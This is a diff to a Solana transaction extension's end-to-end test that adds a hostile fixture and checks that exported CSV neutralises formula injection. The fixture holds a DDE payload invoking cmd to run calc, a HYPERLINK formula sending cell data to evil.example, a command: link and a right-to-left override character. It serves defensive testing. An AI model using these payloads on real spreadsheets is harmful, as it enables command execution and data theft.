@@ -1,14 +1,46 @@
 import assert from 'node:assert/strict';
+import { readFile } from 'node:fs/promises';
 import { after, afterEach, before, describe, test } from 'node:test';
 import { createKeyPairSignerFromBytes, type KeyPairSigner } from '@solana/kit';
 import { developmentAccount } from '../../src/engine/landing/developmentAccounts.ts';
 import { Market } from '../../src/engine/sources/simulated/market.ts';
+import { writeExact } from '../../src/market/exactJson.ts';
 import { defaultSandboxSeed } from '../../src/market/openEngine.ts';
+import { encodeBase58 } from '../../src/solana/base58.ts';
+import { systemProgram } from '../../src/solana/knownPrograms.ts';
 import { instructions, signedWithKit, wallet } from '../fixtures/signedTransactions.ts';
+import { readCsv } from '../unit/extension/exports/readBack.ts';
 import { type ThemeName, themes, Workbench } from './workbench.ts';
 
 /** Blockhashes of the Sandbox follow from its seed and the clock. */
 const market = new Market(defaultSandboxSeed);
+
+/** What a service of strangers had to say, days ago. */
+const hostileLanding = {
+  id: 'earlier',
+  signature: encodeBase58(new Uint8Array(64).fill(5)),
+  uuid: '@SUM(1+1)*cmd|"calc"!A1',
+  network: 'mainnet-beta',
+  host: 'api.example.com',
+  kind: 'service',
+  place: 'earlier',
+  feePayer: systemProgram,
+  frontRunningProtection: true,
+  state: 'refused',
+  isSettled: true,
+  message: '=HYPERLINK("https://evil.example?"&A1,"[click](command:x)"),\r\n<b>\u202e</b>',
+  alarm: '+1+1',
+  confirmation: null,
+  submittedAtMilliseconds: Date.now() - 3 * 86_400_000,
+  acceptMilliseconds: null,
+  submittedSlot: null,
+  landedSlot: null,
+  feeLamports: 2n ** 64n - 1n,
+  tips: [{ provider: '-2+3', lamports: 2n ** 53n + 1n }],
+  blockhash: null,
+  sha256: '',
+  messageSha256: '',
+} as const;
 
 describe('A person lands a signed transaction by clicks', { timeout: 420_000 }, () => {
   let workbench: Workbench;
@@ -16,7 +48,10 @@ describe('A person lands a signed transaction by clicks', { timeout: 420_000 }, 
 
   before(async () => {
     payer = await createKeyPairSignerFromBytes(developmentAccount(1).secretKey);
-    workbench = await Workbench.open({ theme: 'dark' });
+    workbench = await Workbench.open({
+      theme: 'dark',
+      landings: `${writeExact(hostileLanding)}\n`,
+    });
     await workbench.openArbscopeView();
     try {
       await workbench.branches('Finder', 1).first().waitFor({ timeout: 120_000 });
@@ -145,6 +180,42 @@ describe('A person lands a signed transaction by clicks', { timeout: 420_000 }, 
     const isLate = (words: string) => /sent before\. Nothing was sent/.test(words);
     assert.equal(told.filter(isLate).length, 1, told.join('\n'));
     assert.equal(told.filter((words) => /was accepted/.test(words)).length, 1, told.join('\n'));
+  });
+
+  test('saves the landings as CSV, in which strangers’ words are only words', async () => {
+    const { page } = workbench;
+    await workbench.runCommand('Arbscope: Export Landings as CSV…');
+    const title = page.locator('.quick-input-title', { hasText: 'Save as' });
+    await title.waitFor();
+    const input = await workbench.quickInput().elementHandle();
+    await page.waitForFunction(
+      (box) => (box as { value?: string } | null)?.value?.endsWith('.csv') === true,
+      input,
+    );
+    const file = await workbench.quickInput().inputValue();
+    await workbench.quickInput().press('Enter');
+    await title.waitFor({ state: 'hidden' });
+    await page
+      .locator('.notification-list-item', { hasText: /Saved as .*\.csv/ })
+      .first()
+      .waitFor();
+    const lines = readCsv(await readFile(file, 'utf8'));
+    const shown = workbench
+      .treeRows('Landings', 1)
+      .filter({ hasText: /(landed|accepted|seen|failed on chain|refused|unknown) ·/ });
+    assert.equal(lines.length, await shown.count());
+    assert.ok(lines.some((line) => line['state'] === 'landed' && line['network'] === 'Sandbox'));
+    const earlier = lines.at(-1) ?? {};
+    assert.equal(earlier['signature'], hostileLanding.signature);
+    assert.equal(earlier['fee_lamports'], '18446744073709551615');
+    assert.equal(earlier['tip_lamports'], '9007199254740993');
+    for (const name of ['uuid', 'message', 'alarm'] as const) {
+      assert.equal(earlier[name], `'${hostileLanding[name]}`);
+    }
+    assert.equal(earlier['tip_providers'], "'-2+3");
+    for (const value of lines.flatMap((line) => Object.values(line))) {
+      assert.doesNotMatch(value, /^[=+\-@\t\r]/);
+    }
   });
 
   for (const theme of Object.keys(themes).filter((name) => name !== 'dark') as ThemeName[]) {
